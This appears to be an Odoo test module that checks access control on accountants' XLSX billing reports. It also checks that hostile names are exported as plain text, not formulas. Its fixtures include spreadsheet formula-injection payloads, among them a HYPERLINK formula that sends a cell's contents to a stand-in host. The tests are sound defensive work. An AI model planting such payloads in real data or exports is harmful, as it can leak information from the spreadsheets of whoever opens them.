"""Who may download the accountants' XLSX reports, and what a hostile name
becomes in them (attacks over RPC and report routes).

The reports are requested over HTTP (``/report/xlsx/...``) by each kind of
user, as an attacker would: only a billing user gets a report, and only of
a company of theirs.
"""

import io
import json
import xmlrpc.client
from urllib.parse import urlencode

from openpyxl import load_workbook

from odoo.tests import HttpCase, tagged

from ..common import RpcUsersMixin, SecurityBillingCase

REPORTS = (
    "security_billing.report_mmr_aging_xlsx",
    "security_billing.report_rmr_xlsx",
    "security_billing.report_app_usage_xlsx",
)
WIZARD = "security.billing.report.wizard"
HOSTILE_NAME = '=HYPERLINK("http://x/?d="&C2,"x")'
HOSTILE_PRODUCT = "+SUM(1,2)"
HOSTILE_DEVICE = "-1+2"


@tagged("post_install", "-at_install")
class TestReportAccess(RpcUsersMixin, SecurityBillingCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company = cls.company_data["company"]
        cls.other_company = cls.setup_other_company(name="Other Guards")["company"]
        billing = "base.group_user,security_billing.group_security_billing_user"
        users = {
            "portal": ("base.group_portal", cls.company),
            "employee": ("base.group_user,base.group_partner_manager", cls.company),
            "billing": (billing, cls.company),
            "other": (billing, cls.other_company),
        }
        cls._create_rpc_users("sb_report_", users)
        product = cls._create_mmr_product(HOSTILE_PRODUCT, 42.0)
        cls.debtor = cls._create_subscriber(HOSTILE_NAME)
        contract = cls._create_mmr_contract(cls.debtor, price=42.0, product=product)
        cls.invoice = cls._invoice_contract(contract)
        cls._create_site(
            cls.debtor, contract, vendor="paxton", device_id=HOSTILE_DEVICE
        )

    def _get(self, user, report, docids=None, **options):
        self.authenticate(user.login, self._password(user.login))
        url = f"/report/xlsx/{report}"
        if docids:
            url += "/" + ",".join(str(docid) for docid in docids)
        if options:
            url += "?" + urlencode({"options": json.dumps(options)})
        return self.url_open(url)

    def _assert_refused(self, response):
        self.assertEqual(response.status_code, 403, response.text[:300])
        self.assertFalse(response.content.startswith(b"PK"), "an XLSX was served")
        self.assertNotIn(self.debtor.security_account_ref.encode(), response.content)

    def _workbook(self, response):
        self.assertEqual(response.status_code, 200, response.text[:300])
        return load_workbook(io.BytesIO(response.content))

    def _cells(self, workbook, value):
        """Every cell of the workbook whose value is ``value``."""
        return [
            cell
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value == value
        ]

    # ------------------------------------------------------------ refused
    def test_portal_user_gets_no_report(self):
        for report in REPORTS:
            with self.subTest(report=report):
                self._assert_refused(self._get(self.portal_user, report))

    def test_employee_without_billing_rights_gets_no_report(self):
        for report in REPORTS:
            with self.subTest(report=report):
                self._assert_refused(self._get(self.employee_user, report))
                self._assert_refused(
                    self._get(self.employee_user, report, company_id=self.company.id)
                )

    def test_billing_user_of_another_company_gets_no_report_of_ours(self):
        for report in REPORTS:
            with self.subTest(report=report):
                self._assert_refused(
                    self._get(self.other_user, report, company_id=self.company.id)
                )

    def test_billing_user_cannot_ask_for_a_company_not_theirs(self):
        for report in REPORTS:
            with self.subTest(report=report):
                self._assert_refused(
                    self._get(
                        self.billing_user, report, company_id=self.other_company.id
                    )
                )

    def test_wizard_of_a_company_not_theirs_is_refused(self):
        wizard = self.env["security.billing.report.wizard"].create(
            {"report": "mmr_aging", "company_id": self.company.id}
        )
        self._assert_refused(self._get(self.other_user, REPORTS[0], docids=wizard.ids))

    def test_report_models_called_over_xmlrpc_refuse_non_billing_users(self):
        """The report models' public methods are XML-RPC endpoints too."""
        for report in REPORTS:
            with self.subTest(report=report):
                with self.assertRaises(xmlrpc.client.Fault) as caught:
                    self._rpc(
                        self.employee_user,
                        f"report.{report}",
                        "create_xlsx_report",
                        [],
                        [],
                        {"company_id": self.company.id},
                        context={"active_model": WIZARD},
                    )
                self.assertIn("Security Billing / User", caught.exception.faultString)

    # ------------------------------------------------------------ granted
    def test_billing_user_of_another_company_gets_their_own_report(self):
        workbook = self._workbook(self._get(self.other_user, REPORTS[0]))
        self.assertFalse(self._cells(workbook, self.debtor.security_account_ref))

    def test_billing_user_gets_the_aging_report_hostile_name_as_text(self):
        workbook = self._workbook(
            self._get(self.billing_user, REPORTS[0], company_id=self.company.id)
        )
        ref_cells = self._cells(workbook, self.debtor.security_account_ref)
        self.assertEqual(len(ref_cells), 1)
        sheet = ref_cells[0].parent
        name_cell = sheet.cell(row=ref_cells[0].row, column=2)
        self.assertEqual(name_cell.value, HOSTILE_NAME)
        self.assertEqual(name_cell.data_type, "s")
        self.assertEqual(
            sheet.cell(row=ref_cells[0].row, column=8).value,
            self.invoice.amount_residual,
        )

    def test_rmr_and_app_usage_write_hostile_text_as_text(self):
        rmr = self._workbook(self._get(self.billing_user, REPORTS[1]))
        cells = self._cells(rmr, HOSTILE_PRODUCT)
        self.assertEqual(len(cells), 1)
        self.assertEqual(cells[0].data_type, "s")
        usage = self._workbook(self._get(self.billing_user, REPORTS[2]))
        for value in (HOSTILE_NAME, HOSTILE_DEVICE):
            with self.subTest(value=value):
                cells = self._cells(usage, value)
                self.assertEqual(len(cells), 1)
                self.assertEqual(cells[0].data_type, "s")
        # no formula anywhere but the totals rows' numbers
        for sheet in rmr.worksheets + usage.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", cell.coordinate)
